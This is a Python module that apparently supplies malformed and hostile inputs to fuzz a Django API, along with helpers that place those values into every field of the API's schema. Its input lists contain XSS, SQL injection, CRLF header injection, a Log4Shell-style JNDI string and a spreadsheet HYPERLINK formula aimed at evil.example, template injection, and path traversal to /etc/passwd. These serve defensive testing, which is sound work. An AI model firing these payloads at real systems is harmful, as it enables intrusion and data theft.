"""What no field, parameter or path was meant for, and the places of the API's schema where it is put (B24-B27)."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

from . import matrix
from .calls import CALLS, filled
from .world import World

MARKUP = [
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "</a></td><svg/onload=alert(1)>",
]
UNSTORABLE = ["\x00", "a\x00b", "\ud800", "\udfff tail", "\udc00\ud800"]
INVISIBLE = [
    "", " ", "\t\r\n", "\x1b[31mred\x1b[0m", "\x7f\x80\x9f", "\u202egnp.exe", "\u2066\u2069", "\u2028\u2029",
    "\u200b\u200d\u2060\ufeff", "👩\u200d👩\u200d👧\u200d👦" * 20, "🏳\ufe0f\u200d⚧",
    "e" + "\u0301" * 2_000, "\ufb2c" * 80,
]  # fmt: skip
CODE = [
    "a\nBcc: x@y.example", "a\r\nSubject: x\r\n\r\nbody", "a%0d%0aSet-Cookie: x=y", "=1+1", "+1", "-1", "@SUM(A1)",
    '=HYPERLINK("http://evil.example","x")', "' OR 1=1 --", '"; DROP TABLE auth_user; --', "\\",
    "%s%n%x", "{0.__class__}",
    "%(secret)s", "{{ 7*7 }}", "{% debug %}", "${jndi:ldap://evil.example}", "javascript:alert(1)",
    "../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "CON", "/",
]  # fmt: skip
NUMBERS = ["1e400", "-1e400", "NaN", "Infinity", "9" * 400, "0x1F", "٣", "null", "true", "[]", "{}"]
DATES = [
    "0000-00-00T00:00:00Z", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "10000-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z", "2024-02-30T25:61:61Z", "2099-01-01", "2099-01-01T00:00:00", "99999999999999999999",
]  # fmt: skip
LONG = ["🌊" * 500, "[" * 5_000, "> " * 2_000, "x" * 1_000_000]
STRINGS = [*MARKUP, *UNSTORABLE, *INVISIBLE, *CODE, *NUMBERS, *DATES, *LONG]
# What fits into an address; the rest of a long one a server refuses before Django sees it.
SHORT = [text for text in STRINGS if len(text) <= 2_000]


def deep(levels: int) -> Any:
    """Return lists inside lists."""
    value: Any = []
    for _level in range(levels):
        value = [value]
    return value


VALUES: list[Any] = [
    None, True, 0, -1, 2**31, 2**63, -(2**63) - 1, 10**400, 1.5, float("inf"), float("nan"), [], {}, [[]], [None],
    ["x"] * 5_000, deep(100), {"$ne": ""}, {"__proto__": {}}, [UNSTORABLE[1]], [UNSTORABLE[2]],
]  # fmt: skip
BODIES = [
    b"", b"null", b"7", b'"x"', b"[]", b"[{}]", b"{", b"{}", b'{"a": 1, "a": 2}', b'{"a": 1e400}', b'{"\\u0000": 1}',
    b'{"\\ud800": 1}', b"\xff\xfe{\x00}\x00", b"\xef\xbb\xbf{}", b"[" * 100_000, b'{"a":' * 10_000, b'{"a": NaN}',
    b'{"a": ' + b"9" * 5_000 + b"}", b"\x00", b"a=b&c=d", b'{"a": "' + b"x" * 10_000_000 + b'"}',
]  # fmt: skip
SAMPLES = {"string": "x", "integer": 1, "number": 1, "boolean": True, "array": [], "object": {}}
Place = tuple[str | int, ...]


def schema_of(case: str) -> Any:
    """Return what the schema says of a case's operation."""
    method, path = matrix.operations()[case.partition("@")[0]]
    return matrix.schema()["paths"][path][method.lower()]


def _shapes(node: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Return the plain shapes that a node allows: references followed, alternatives one by one."""
    if "$ref" in node:
        yield from _shapes(matrix.schema()["components"]["schemas"][node["$ref"].rpartition("/")[2]])
    elif "anyOf" in node:
        for other in node["anyOf"]:
            yield from _shapes(other)
    elif node.get("type") != "null":
        yield node


def body_shape(case: str) -> dict[str, Any] | None:
    """Return the shape of a case's JSON body, None if it takes none."""
    content = schema_of(case).get("requestBody", {}).get("content", {})
    return content["application/json"]["schema"] if "application/json" in content else None


def places(node: dict[str, Any], start: Place = ()) -> Iterator[Place]:
    """Return where in a body of this shape something can be put: every field, and whatever fields hold."""
    for shape in _shapes(node):
        if start:
            yield start
        for name, child in shape.get("properties", {}).items():
            yield from places(child, (*start, name))
        if "items" in shape:
            yield from places(shape["items"], (*start, 0))


def put(case: str, body: Any, place: Place, value: Any) -> Any:
    """Return a copy of a case's body with the value at a place; what is missing on the way there is made up."""
    body = copy.deepcopy(body)
    here, node = body, body_shape(case) or {}
    for step, following in zip(place, (*place[1:], None), strict=True):
        shape = next(iter(_shapes(node)))
        node = shape["items"] if isinstance(step, int) else shape["properties"][step]
        new = value if following is None else sample(node)
        if isinstance(step, int):
            here[:] = [new if following is None or not here else here[0]]
        elif following is None or not here.get(step):
            here[step] = new
        here = here[step]
    return body


def sample(node: dict[str, Any]) -> Any:
    """Return a plain value of a shape, with the fields that it must have."""
    shape = next(iter(_shapes(node)))
    if "enum" in shape or "const" in shape:
        return shape.get("const") or shape["enum"][0]
    if "properties" in shape:
        return {name: sample(shape["properties"][name]) for name in shape.get("required", ())}
    return copy.copy(SAMPLES[shape["type"]])


def address(world: World, case: str) -> tuple[str, str]:
    """Return method and path of a case, with the world's ids."""
    method, path = matrix.operations()[case.partition("@")[0]]
    for name in CALLS[case].path:
        start, _, rest = path.partition("{")
        path = start + (name[1:] if name.startswith("=") else world.ids[name]) + rest.partition("}")[2]
    query = CALLS[case].query
    return method, f"{path}?{filled(world, query)}" if query else path


def allowed(case: str) -> str | None:
    """Return somebody who may do it, as the reviewed matrix says; None for a case that nobody succeeds with."""
    cells = matrix.stored()[case].items()
    return next((persona for persona, status in cells if status.startswith("2")), None)


def one_of_each() -> list[str]:
    """Return a case of every operation, one that somebody succeeds with if there is such a case."""
    chosen: dict[str, str] = {}
    for case in sorted(CALLS, key=lambda case: allowed(case) is None):
        chosen.setdefault(case.partition("@")[0], case)
    return sorted(chosen.values())
